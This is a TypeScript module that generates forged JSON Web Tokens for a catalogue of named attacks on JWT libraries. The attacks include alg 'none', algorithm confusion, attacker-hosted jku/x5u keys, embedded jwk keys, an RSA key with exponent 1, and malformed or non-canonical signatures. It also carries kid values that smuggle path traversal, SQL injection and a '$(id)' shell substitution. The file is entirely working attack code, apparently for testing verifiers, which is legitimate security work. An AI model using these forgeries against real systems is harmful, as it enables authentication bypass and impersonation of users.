import { base64url, exportJWK, generateKeyPair } from 'jose';
import {
  bytesOf,
  es256,
  honestly,
  hs256,
  type JwtDraft,
  part,
  publicBytes,
  rsaKeyOfOne,
  type Signer,
  signParts,
} from './forge-jwt.ts';

/** Where the attacker's own keys can be had. */
export type Attacker = { readonly url: string };

export type JwtAttack = (draft: JwtDraft, attacker: Attacker) => Promise<readonly string[]>;

/** The honest parts with another header, signed by the key that may sign, or by another one. */
const withHeader = (
  draft: JwtDraft,
  header: Record<string, unknown>,
  sign: Signer = es256(draft.privateKey),
): Promise<string> => signParts({ ...draft.header, ...header }, draft.claims, sign);

const stranger = () => generateKeyPair('ES256', { extractable: true });

const nobody: Signer = async () => new Uint8Array();

const strangeKids: readonly unknown[] = [
  '../../../../../../dev/null',
  '/dev/null',
  '..%2f..%2fdev%2fnull',
  'file:///dev/null',
  "x' union select 'key' --",
  '$(id)',
  '__proto__',
  'constructor',
  'toString',
  '0',
  '*',
  '',
  ' ',
  '\u0000',
  'a'.repeat(201),
  0,
  null,
  {},
  ['kid'],
  { toString: 'kid' },
];

/** The honest header and claims as text, one member of which is there twice: last one wins, or first one. */
const doubled = (object: object, name: string, value: unknown): readonly string[] => {
  const text = JSON.stringify(object);
  const extra = `"${name}":${JSON.stringify(value)}`;
  return [`{${extra},${text.slice(1)}`, `${text.slice(0, -1)},${extra}}`];
};

/** A last character with bits that decode to nothing: another text of the same bytes. */
function withStrayBits(encoded: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const last = alphabet.indexOf(encoded.at(-1) ?? '');
  return encoded.slice(0, -1) + alphabet[last | 1];
}

/** ECDSA as X.509 writes it, which JWS does not (RFC 7518 s3.4). */
const asDer = (raw: Uint8Array): Uint8Array => {
  const integer = (bytes: Uint8Array) => [0x02, bytes.length + 1, 0x00, ...bytes];
  const body = [...integer(raw.slice(0, 32)), ...integer(raw.slice(32))];
  return Uint8Array.from([0x30, body.length, ...body]);
};

async function parts(draft: JwtDraft): Promise<[header: string, claims: string, sig: string]> {
  const [header = '', claims = '', signature = ''] = (await honestly(draft)).split('.');
  return [header, claims, signature];
}

/** What was wrong with one JWT library or another, by the name under which it is known. */
export const jwtAttacks: Readonly<Record<string, JwtAttack>> = {
  'alg none': async (draft) => {
    const [, claims, signature] = await parts(draft);
    const names = ['none', 'None', 'NONE', 'nOnE', ''];
    const headers = names.map((alg) => part({ ...draft.header, alg }));
    return headers.flatMap((header) => [
      `${header}.${claims}.`,
      `${header}.${claims}`,
      `${header}.${claims}.${signature}`,
      `${header}.${claims}.AA`,
    ]);
  },

  'alg confusion: HMAC under the public key': async (draft) => {
    const secrets = Object.values(await publicBytes(draft));
    return Promise.all(secrets.map((secret) => withHeader(draft, { alg: 'HS256' }, hs256(secret))));
  },

  'alg confusion: another algorithm over an honest signature': (draft) =>
    Promise.all(
      ['ES384', 'ES512', 'ES256K', 'EdDSA', 'Ed25519', 'RS256', 'PS256', 'HS256', 'es256', 1, null]
        .map((alg) => withHeader(draft, { alg }))
        .concat(
          signParts({ ...draft.header, alg: undefined }, draft.claims, es256(draft.privateKey)),
        ),
    ),

  'kid traversal': async (draft) => {
    const { privateKey } = await stranger();
    const empty = hs256(new Uint8Array([0]));
    const tokens = strangeKids.flatMap((kid) => [
      withHeader(draft, { kid }, es256(privateKey)),
      withHeader(draft, { kid, alg: 'HS256' }, empty),
    ]);
    return Promise.all(tokens);
  },

  'jku and x5u: a key that the token points to': async (draft, { url }) => {
    const { privateKey } = await stranger();
    const headers = [
      { jku: url, kid: 'evil' },
      { jku: url },
      { x5u: url, kid: 'evil' },
      { x5u: url },
      { jku: url, x5u: url, x5t: 'AAAA' },
    ];
    return Promise.all(headers.map((header) => withHeader(draft, header, es256(privateKey))));
  },

  'jwk and x5c: a key that the token brings along': async (draft) => {
    const { privateKey, publicKey } = await stranger();
    const jwk = { ...(await exportJWK(publicKey)), alg: 'ES256' };
    const sign = es256(privateKey);
    const headers = [
      { jwk },
      { jwk: { ...jwk, kid: draft.header['kid'] } },
      { jwk, kid: undefined },
      { x5c: ['MIIB'] },
    ];
    return Promise.all(headers.map((header) => withHeader(draft, header, sign)));
  },

  'e = 1: an RSA key under which every forgery verifies': async (draft) => {
    const { jwk, sign } = rsaKeyOfOne();
    return Promise.all([
      withHeader(draft, { alg: 'RS256', jwk }, sign),
      withHeader(draft, { alg: 'RS256' }, sign),
    ]);
  },

  'crit, b64 and zip: a token that says how it wants to be read': (draft) =>
    Promise.all(
      [
        { crit: ['exp'] },
        { crit: [] },
        { crit: ['b64'], b64: false },
        { b64: false },
        { b64: true },
        { zip: 'DEF' },
      ].map((header) => withHeader(draft, header)),
    ),

  'padded and non-canonical tokens': async (draft) => {
    const [header, claims, signature] = await parts(draft);
    const plain = `${header}.${claims}.${signature}`;
    return [
      `${plain}=`,
      `${plain}==`,
      `${header}=.${claims}.${signature}`,
      `${header}.${claims}==.${signature}`,
      `${header}.${claims}.${withStrayBits(signature)}`,
      `${header}.${claims}.${signature.slice(0, -4)}\n${signature.slice(-4)}`,
      `${header}.${claims}.${signature.slice(0, -4)} ${signature.slice(-4)}`,
      `${header}.${claims}.${signature}AAA`,
      `${header}.${claims}.${signature.slice(0, -1)}`,
      `${header}.${claims}.${[...signature].map((c) => encodeURIComponent(c)).join('')}%00`,
      `${plain}.`,
      `.${plain}`,
      `${plain}.${signature}`,
      `${header}..${signature}`,
      `${header}.${claims}.${signature}~`,
      JSON.stringify({ protected: header, payload: claims, signature }),
      JSON.stringify({ payload: claims, signatures: [{ protected: header, signature }] }),
    ];
  },

  'duplicate members: two readers read two tokens': async (draft) => {
    const headers = Object.keys(draft.header).flatMap((name) =>
      doubled(draft.header, name, name === 'alg' ? 'none' : 'evil'),
    );
    const names = Object.keys(draft.claims).slice(0, 4);
    const claims = names.flatMap((name) => doubled(draft.claims, name, 'evil'));
    const sign = es256(draft.privateKey);
    return Promise.all([
      ...headers.map((header) => signParts(header, draft.claims, sign)),
      ...claims.map((text) => signParts(draft.header, text, sign)),
    ]);
  },

  'JSON that is none, too deep or too large': (draft) => {
    const text = JSON.stringify(draft.claims);
    const filled = (value: unknown) => JSON.stringify({ ...draft.claims, filler: value });
    const deep = `${'['.repeat(9)}${']'.repeat(9)}`;
    const claims = [
      '',
      '[]',
      'null',
      '"text"',
      `[${text}]`,
      `${text}${text}`,
      `\ufeff${text}`,
      `${text}\u0000`,
      text.replaceAll('"', "'"),
      `${text.slice(0, -1)},}`,
      `${text.slice(0, -1)},"filler":${deep}}`,
      filled('x'.repeat(8192)),
    ];
    const sign = es256(draft.privateKey);
    const header = JSON.stringify(draft.header);
    const headers = ['', '[]', 'null', `[${header}]`, `${header} x`];
    return Promise.all([
      ...claims.map((each) => signParts(draft.header, each, sign)),
      ...headers.map((each) => signParts(each, draft.claims, sign)),
    ]);
  },

  'a signature of nothing, of zeros, cut short or written otherwise': async (draft) => {
    const [header, claims, signature] = await parts(draft);
    const raw = base64url.decode(signature);
    const others = [
      new Uint8Array(64),
      new Uint8Array(64).fill(0xff),
      new Uint8Array(1),
      raw.slice(0, 63),
      Uint8Array.from([0, ...raw]),
      Uint8Array.from([...raw, 0]),
      asDer(raw),
      Uint8Array.from([...raw.slice(32), ...raw.slice(0, 32)]),
      Uint8Array.from(raw, (byte) => byte ^ 0xff),
    ];
    const unsigned = await signParts(draft.header, draft.claims, nobody);
    return [unsigned, ...others.map((each) => `${header}.${claims}.${base64url.encode(each)}`)];
  },

  'a foreign key, and a signature over other claims': async (draft) => {
    const { privateKey } = await stranger();
    const [header, claims] = await parts(draft);
    const other = await parts({ ...draft, claims: { ...draft.claims, jti: 'another' } });
    return [
      await withHeader(draft, {}, es256(privateKey)),
      `${header}.${claims}.${other[2]}`,
      `${header}.${part({ ...draft.claims, exp: 4e9 })}.${(await parts(draft))[2]}`,
      `${header}.${claims}.${base64url.encode(bytesOf(claims))}`,
    ];
  },
};
